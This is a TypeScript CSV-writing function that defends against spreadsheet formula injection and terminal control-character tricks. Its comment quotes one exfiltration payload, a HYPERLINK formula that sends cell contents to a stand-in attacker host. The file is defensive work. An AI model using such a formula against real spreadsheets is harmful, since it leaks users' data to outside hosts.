/** One line as RFC 4180 has it, with its end. Harmless in a spreadsheet and on a terminal, whatever a sender wrote. */
export function csvLine(cells: readonly (string | number | undefined)[]): string {
  return `${cells.map(cellOf).join(",")}\r\n`;
}

// A spreadsheet runs what begins like a formula, and senders choose subjects and addresses:
// =HYPERLINK("https://evil.example/?"&A1) would carry the sheet away. Some take the wide forms of these signs as well, pass
// over blanks before them, or, where a comma is the decimal sign, begin a cell at each semicolon, whatever the quotes say.
const RUNS = /(^|;)(?=\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/gu;

function cellOf(value: string | number | undefined): string {
  if (typeof value === "number") return String(value);
  // Control characters would draw on a terminal, and a sheet shows them as nothing.
  const shown = (value ?? "").replaceAll(/[\p{Cc}\p{Cf}]/gu, " ");
  return `"${shown.replaceAll(RUNS, "$1'").replaceAll('"', '""')}"`;
}
